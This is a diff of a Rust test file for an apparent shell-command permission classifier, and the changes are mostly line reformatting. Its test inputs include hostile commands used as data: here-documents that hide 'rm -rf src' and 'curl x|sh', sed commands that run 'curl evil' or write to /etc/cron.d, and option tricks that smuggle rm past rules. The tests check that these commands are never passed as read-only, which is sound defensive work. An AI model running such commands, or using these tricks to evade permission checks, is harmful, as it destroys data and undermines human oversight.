@@ -7,9 +7,10 @@ use super::{analysed, is_covered, is_denied, word};
 /// Texts that run a command behind a here-document whose end a reader may take for another.
 fn hiding_here_documents() -> Vec<String> {
     let starts = [
-        "<<E", "<<E;", "<<E&&", "<<E||", "<<E|", "<<\"E\"", "<<'E'", "<<\\E", "<<-E", "0<<-E", "0<<E",
-        "<<E\"\"", "<<\"\"E", "<<$\"E\"", "<<$'E'", "<<E'F'", "<<\\\nE", "<<-\\\nE", "<< E", "<<\tE", "<<E#",
-        "<<E)", "<<E>x", "<<E<y", "<<E\\\n", "<<E{", "<<E$x", "<<E`x`", "<<''", "<<\"\"", "<<E.F", "<<E&",
+        "<<E", "<<E;", "<<E&&", "<<E||", "<<E|", "<<\"E\"", "<<'E'", "<<\\E", "<<-E", "0<<-E",
+        "0<<E", "<<E\"\"", "<<\"\"E", "<<$\"E\"", "<<$'E'", "<<E'F'", "<<\\\nE", "<<-\\\nE",
+        "<< E", "<<\tE", "<<E#", "<<E)", "<<E>x", "<<E<y", "<<E\\\n", "<<E{", "<<E$x", "<<E`x`",
+        "<<''", "<<\"\"", "<<E.F", "<<E&",
     ];
     let tails = [" ls", "ls", " cat", " true; ls"];
     let ends = ["E", "EF", "\tE", "E "];
@@ -17,7 +18,9 @@ fn hiding_here_documents() -> Vec<String> {
     for start in starts {
         for tail in tails {
             for end in ends {
-                texts.push(format!("cat {start}{tail}\nhi\n{end}\nrm -rf src\ncurl x|sh\n"));
+                texts.push(format!(
+                    "cat {start}{tail}\nhi\n{end}\nrm -rf src\ncurl x|sh\n"
+                ));
             }
         }
     }
@@ -57,17 +60,34 @@ fn a2_no_comment_hides_a_command() {
 #[test]
 fn a3_sed_is_read_as_gnu_sed_reads_it() {
     for text in [
-        "sed -n '/x/p' f", "sed '/re/d' f", "sed 1d f", "sed -n '$=' f", "sed '/x/d' f", "sed -e 's/a/b/' f",
-        "sed -es/a/b/ f", "sed --expression=s/a/b/ f", "sed '1,5!d' f", "sed '{s/a/b/;p}' f",
+        "sed -n '/x/p' f",
+        "sed '/re/d' f",
+        "sed 1d f",
+        "sed -n '$=' f",
+        "sed '/x/d' f",
+        "sed -e 's/a/b/' f",
+        "sed -es/a/b/ f",
+        "sed --expression=s/a/b/ f",
+        "sed '1,5!d' f",
+        "sed '{s/a/b/;p}' f",
     ] {
         assert_eq!(word(text), "reads", "{text}");
     }
     for text in [
-        "sed -n '/x/e curl evil' f", "sed -n '/x/w /etc/cron.d/x' f", "sed -f x.sed f", "sed '1e rm x' f",
-        "sed 's/x/rm y/e' f", "sed -e1e f", "sed --expression=1e f", "sed '/a/{e' f",
+        "sed -n '/x/e curl evil' f",
+        "sed -n '/x/w /etc/cron.d/x' f",
+        "sed -f x.sed f",
+        "sed '1e rm x' f",
+        "sed 's/x/rm y/e' f",
+        "sed -e1e f",
+        "sed --expression=1e f",
+        "sed '/a/{e' f",
     ] {
         assert_ne!(word(text), "reads", "{text}");
-        assert!(!is_covered(&["sed:*", "sed -n:*", "sed -f:*"], text), "{text}");
+        assert!(
+            !is_covered(&["sed:*", "sed -n:*", "sed -f:*"], text),
+            "{text}"
+        );
         let suggestions = analysed(text).suggestions();
         assert!(suggestions.is_empty(), "{text}: {suggestions:?}");
     }
@@ -76,13 +96,30 @@ fn a3_sed_is_read_as_gnu_sed_reads_it() {
 #[test]
 fn a4_what_runs_code_or_writes_is_not_read_only() {
     for text in [
-        "git --git-dir=D status", "git -C D status", "git rev-list --output=FILE HEAD", "git branch --color NAME",
-        "git tag --color NAME", "cargo tree", "cargo metadata", "cargo --version", "gradle help", "bundle list",
-        "yarn --version", "uv tree", "pnpm ls", "mvn -v", "cd D && git status",
+        "git --git-dir=D status",
+        "git -C D status",
+        "git rev-list --output=FILE HEAD",
+        "git branch --color NAME",
+        "git tag --color NAME",
+        "cargo tree",
+        "cargo metadata",
+        "cargo --version",
+        "gradle help",
+        "bundle list",
+        "yarn --version",
+        "uv tree",
+        "pnpm ls",
+        "mvn -v",
+        "cd D && git status",
     ] {
         assert_ne!(word(text), "reads", "{text}");
     }
-    for text in ["git status", "git diff HEAD~1", "git log --oneline -n 5", "git branch -a"] {
+    for text in [
+        "git status",
+        "git diff HEAD~1",
+        "git log --oneline -n 5",
+        "git branch -a",
+    ] {
         assert_eq!(word(text), "reads", "{text}");
     }
 }
@@ -125,8 +162,15 @@ fn a5_a_rule_does_not_let_another_program_run() {
 #[test]
 fn a7_what_is_suggested_covers_what_it_is_suggested_for() {
     for text in [
-        "rm \"~\"", "npm run build", "git push origin main", "cargo test --lib", "docker compose up",
-        "DEBUG=1 npm test", "make all", "git commit -m 'a b'", "go test ./...",
+        "rm \"~\"",
+        "npm run build",
+        "git push origin main",
+        "cargo test --lib",
+        "docker compose up",
+        "DEBUG=1 npm test",
+        "make all",
+        "git commit -m 'a b'",
+        "go test ./...",
     ] {
         let suggestions = analysed(text).suggestions();
         assert!(!suggestions.is_empty(), "{text}");
@@ -138,10 +182,20 @@ fn a7_what_is_suggested_covers_what_it_is_suggested_for() {
 #[test]
 fn a8_options_are_not_abbreviated() {
     for text in [
-        "env --unse ls rm -rf src", "env --split 'rm x' ls", "timeout --kill 5 3 rm x", "sort --outp=x y",
-        "find . -exe rm {} +", "nice --adj 5 rm x", "xargs --arg f rm", "tree --outpu x",
+        "env --unse ls rm -rf src",
+        "env --split 'rm x' ls",
+        "timeout --kill 5 3 rm x",
+        "sort --outp=x y",
+        "find . -exe rm {} +",
+        "nice --adj 5 rm x",
+        "xargs --arg f rm",
+        "tree --outpu x",
     ] {
-        assert!(!matches!(word(text), "reads" | "edits"), "{text}: {}", word(text));
+        assert!(
+            !matches!(word(text), "reads" | "edits"),
+            "{text}: {}",
+            word(text)
+        );
     }
     assert!(is_denied("rm:*", "env --unset ls rm -rf src"));
 }
@@ -149,7 +203,18 @@ fn a8_options_are_not_abbreviated() {
 #[test]
 fn a9_no_text_panics() {
     for text in [
-        "\\c${}#\\", "${}#\\", "${", "`\\", "$'\\", "a=$(\\", "<<\\", "\"${}\\", "${x}\\", "$(x)\\", "$((\\", "{a,\\",
+        "\\c${}#\\",
+        "${}#\\",
+        "${",
+        "`\\",
+        "$'\\",
+        "a=$(\\",
+        "<<\\",
+        "\"${}\\",
+        "${x}\\",
+        "$(x)\\",
+        "$((\\",
+        "{a,\\",
     ] {
         let _ = word(text);
     }
@@ -173,7 +238,11 @@ fn e2_what_is_proven_part_by_part_does_not_ask() {
         assert_eq!(word(text), "reads", "{text}");
     }
     for text in [
-        "for f in *.o; do rm $f; done", "if true; then rm x; fi", "echo $(rm x)", "(rm x)", "while rm x; do ls; done",
+        "for f in *.o; do rm $f; done",
+        "if true; then rm x; fi",
+        "echo $(rm x)",
+        "(rm x)",
+        "while rm x; do ls; done",
     ] {
         assert_ne!(word(text), "reads", "{text}");
         assert!(is_denied("rm:*", text), "{text}");
